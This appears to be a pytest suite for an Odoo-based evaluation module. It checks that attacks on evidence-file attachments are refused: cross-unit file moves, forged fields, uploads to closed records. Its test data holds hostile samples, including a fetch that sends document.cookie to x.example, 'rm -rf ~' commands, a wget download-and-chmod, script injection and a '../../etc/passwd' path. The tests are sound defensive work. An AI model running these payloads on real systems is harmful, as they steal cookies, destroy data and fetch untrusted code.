"""Evidence files over the wire: each attack as the role that would try it,
refused, and nothing changed."""

import base64
import io
import re
import zipfile

import pytest
import requests

LINE = "cchc.evaluation.line"
EVALUATION = "cchc.evaluation"
ATTACHMENT = "ir.attachment"
BOM = b"\xef\xbb\xbf"
DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}


def zip_of(members):
    with io.BytesIO() as buffer:
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in members.items():
                archive.writestr(name, content)
        return buffer.getvalue()


def b64(raw):
    return base64.b64encode(raw).decode()


def file_vals(model, res_id, name="evidence.pdf", raw=None, **vals):
    return {
        "name": name,
        "datas": b64(raw if raw is not None else PDF),
        "res_model": model,
        "res_id": res_id,
        **vals,
    }


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


def files_on(world, model, res_id):
    return world.admin(
        ATTACHMENT, "search", [("res_model", "=", model), ("res_id", "=", res_id)]
    )


@pytest.fixture(scope="module")
def explanation_campaign(world):
    """Unit A submitted with evidence on items 2 and 1.2; Sở Tư pháp asks
    about item 2."""
    w = world
    ids = w.scored_campaign("A")
    lines = ids["lines_A"]
    ids["evidence_asked"] = w.evidence(w.officers["A"], lines["2"], "asked.pdf")
    ids["evidence_other"] = w.evidence(w.officers["A"], lines["1.2"], "other.pdf")
    w.as_user(w.heads["A"])(EVALUATION, "action_submit", [ids["A"]])
    w.admin("cchc.campaign", "action_start_appraisal", [ids["campaign"]])
    appraiser = w.as_user(w.appraiser_stp)
    [appraisal] = appraiser(
        "cchc.appraisal", "search", [("evaluation_id", "=", ids["A"])]
    )
    wizard = appraiser(
        "cchc.explanation.request",
        "create",
        {"appraisal_id": appraisal, "line_ids": [(6, 0, [lines["2"]])], "message": "?"},
    )
    appraiser("cchc.explanation.request", "action_confirm", [wizard])
    return ids


def test_internal_user_cannot_plant_a_file(world, open_campaign):
    """The hole: a file on no record, then moved onto a submitted line."""
    internal = world.roles["internal"]
    line_b = open_campaign["lines_B"]["1.2"]
    with world.unchanged(LINE, [line_b], ["evidence_ids"]):
        for res_id in (0, 10**9):
            error = world.refused(
                internal, ATTACHMENT, "create", file_vals(LINE, res_id)
            )
            assert "existing record" in error.message
        world.refused(internal, ATTACHMENT, "create", file_vals(LINE, line_b))
        world.refused(
            internal, ATTACHMENT, "create", file_vals(EVALUATION, open_campaign["B"])
        )
    assert (
        world.admin(
            ATTACHMENT, "search", [("create_uid", "=", world.as_user(internal).uid)]
        )
        == []
    )


def test_officer_cannot_move_its_file_to_another_unit(
    world, open_campaign, appraisal_campaign
):
    officer_a = world.officers["A"]
    own = world.evidence(officer_a, open_campaign["lines_A"]["1.1"], "own.pdf")
    targets = [
        {"res_id": open_campaign["lines_B"]["1.2"]},
        {"res_id": appraisal_campaign["lines_C"]["1.2"]},
        {"res_model": EVALUATION, "res_id": open_campaign["B"]},
        {"res_id": 0},
    ]
    with world.unchanged(ATTACHMENT, [own], ["res_model", "res_id", "name"]):
        for vals in targets:
            world.refused(officer_a, ATTACHMENT, "write", [own], vals)
        world.refused(
            officer_a,
            ATTACHMENT,
            "copy",
            [own],
            {"res_id": open_campaign["lines_B"]["1.2"]},
        )
    assert files_on(world, LINE, open_campaign["lines_B"]["1.2"]) == []
    assert files_on(world, EVALUATION, open_campaign["B"]) == []
    # Another unit's officer cannot take it either.
    with world.unchanged(ATTACHMENT, [own], ["res_model", "res_id"]):
        world.refused(
            world.officers["B"],
            ATTACHMENT,
            "write",
            [own],
            {"res_id": open_campaign["lines_B"]["1.2"]},
        )
    world.as_user(officer_a)(ATTACHMENT, "unlink", [own])


REFUSED_CONTENT = [
    ("letter.doc", b" <html><body><script>alert(1)</script></body></html>"),
    ("letter.doc", BOM + b"<html><script>alert(1)</script></html>"),
    ("notes.txt", b"var c = document.cookie;\nfetch('https://x.example/' + c);\n"),
    ("notes.txt", b"import os\nos.system('rm -rf ~')\n"),
    ("notes.txt", b"cd /tmp\nwget http://x.example/x\nchmod +x x\n"),
    ("report.docx", zip_of({**DOCX, "word/embeddings/setup.exe": b"MZ\x90\x00"})),
    ("report.pdf", BOM + b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
]


@pytest.mark.parametrize(
    ("name", "raw"),
    REFUSED_CONTENT,
    ids=["html-space", "html-bom", "js", "python", "shell", "zip-exe", "svg-bom"],
)
def test_refused_by_content(world, open_campaign, name, raw):
    line = open_campaign["lines_A"]["1.2"]
    with world.unchanged(LINE, [line], ["evidence_ids"]):
        error = world.refused(
            world.officers["A"], ATTACHMENT, "create", file_vals(LINE, line, name, raw)
        )
    assert error.name == "ValidationError"
    assert name in error.message


def test_evidence_is_an_uploaded_private_file(world, open_campaign):
    officer_a = world.officers["A"]
    line = open_campaign["lines_A"]["1.2"]
    with world.unchanged(LINE, [line], ["evidence_ids"]):
        for vals in (
            file_vals(LINE, line, type="url", url="https://x.example/"),
            {"name": "link.pdf", "type": "url", "url": "https://x.example/"}
            | {"res_model": LINE, "res_id": line},
            file_vals(LINE, line, public=True),
            file_vals(LINE, line, mimetype="text/javascript"),
            file_vals(LINE, line, "a" * 1024 * 1024 + ".pdf"),
            {"name": "raw.pdf", "db_datas": b64(b"echo pwned\n")}
            | {"res_model": LINE, "res_id": line},
        ):
            world.refused(officer_a, ATTACHMENT, "create", vals)
        world.refused(
            officer_a,
            ATTACHMENT,
            "create",
            file_vals(LINE, line),
            context={"default_public": True},
        )
    own = world.evidence(officer_a, open_campaign["lines_A"]["1.1"], "own.pdf")
    fields = ["type", "url", "public", "mimetype", "name", "checksum", "file_size"]
    with world.unchanged(ATTACHMENT, [own], fields):
        for vals in (
            {"type": "url", "url": "https://x.example/"},
            {"public": True},
            {"mimetype": "text/javascript"},
            {"name": "a" * 1024 * 1024 + ".pdf"},
        ):
            world.refused(officer_a, ATTACHMENT, "write", [own], vals)
        for vals in (
            {"db_datas": b64(b"x" * 1024 * 1024)},
            {"db_datas": b64(b"#!/bin/sh\nrm -rf ~\n")},
            {"store_fname": "../../etc/passwd"},
            {"checksum": "0" * 40},
            {"file_size": 1},
            {"index_content": "forged"},
            {"res_field": "image_1920"},
        ):
            error = world.refused(officer_a, ATTACHMENT, "write", [own], vals)
            assert "is not written directly" in error.message, (vals, error)
    response = world.as_user(world.roles["internal"]).get(f"/web/content/{own}")
    assert response.status_code in (403, 404)
    anonymous = requests.get(
        f"{world.admin.url}/web/content/{own}", timeout=60, allow_redirects=False
    )
    assert anonymous.status_code in (303, 403, 404)
    world.as_user(officer_a)(ATTACHMENT, "unlink", [own])


def _chatter_upload(world, login, model, res_id):
    """The chatter's upload, as the browser sends it."""
    user = world.as_user(login)
    page = user.http.get(f"{user.url}/odoo", timeout=60).text
    token = re.search(r'csrf_token["\']?\s*[:=]\s*["\']([\w]+)', page).group(1)
    return user.http.post(
        f"{user.url}/mail/attachment/upload",
        data={"thread_id": res_id, "thread_model": model, "csrf_token": token},
        files={"ufile": ("minutes.pdf", PDF, "application/pdf")},
        timeout=60,
    )


def test_evaluation_files_follow_the_evaluation(
    world, open_campaign, published_campaign
):
    officer_a = world.officers["A"]
    own = world.as_user(officer_a)(
        ATTACHMENT, "create", file_vals(EVALUATION, open_campaign["A"], "minutes.pdf")
    )
    # The control: the chatter's upload works on the unit's open evaluation.
    response = _chatter_upload(world, officer_a, EVALUATION, open_campaign["A"])
    assert response.status_code == 200, response.text
    [uploaded] = set(files_on(world, EVALUATION, open_campaign["A"])) - {own}
    world.refused(
        officer_a,
        ATTACHMENT,
        "create",
        file_vals(EVALUATION, open_campaign["A"], "page.pdf", b" <html></html>"),
    )
    for login in (world.roles["secretariat"], world.officers["B"]):
        world.refused(
            login, ATTACHMENT, "create", file_vals(EVALUATION, open_campaign["A"])
        )
        world.refused(login, ATTACHMENT, "unlink", [own])
    # Submitted (B) or published (E): closed to everyone, chatter included.
    for code, ids in (("B", open_campaign), ("E", published_campaign)):
        before = files_on(world, EVALUATION, ids[code])
        for login in (world.heads[code], world.officers[code], world.roles["admin"]):
            world.refused(login, ATTACHMENT, "create", file_vals(EVALUATION, ids[code]))
            _chatter_upload(world, login, EVALUATION, ids[code])
        assert files_on(world, EVALUATION, ids[code]) == before
    world.as_user(officer_a)(ATTACHMENT, "unlink", [own, uploaded])


def test_explanation_round_only_adds(world, explanation_campaign):
    officer_a = world.as_user(world.officers["A"])
    lines = explanation_campaign["lines_A"]
    asked, other = (
        explanation_campaign["evidence_asked"],
        explanation_campaign["evidence_other"],
    )
    with world.unchanged(ATTACHMENT, [asked, other], ["name", "checksum", "res_id"]):
        for evidence in (asked, other):
            for vals in (
                {"name": "renamed.pdf"},
                {"datas": b64(PDF + b"%")},
                {"res_id": lines["1.1"]},
            ):
                world.refused(
                    world.officers["A"], ATTACHMENT, "write", [evidence], vals
                )
            world.refused(world.officers["A"], ATTACHMENT, "unlink", [evidence])
        world.refused(
            world.heads["A"],
            LINE,
            "write",
            [lines["2"]],
            {"evidence_ids": [(3, asked)]},
        )
        world.refused(
            world.officers["A"], ATTACHMENT, "create", file_vals(LINE, lines["1.2"])
        )
    added = officer_a(ATTACHMENT, "create", file_vals(LINE, lines["2"], "added.pdf"))
    assert set(files_on(world, LINE, lines["2"])) == {asked, added}
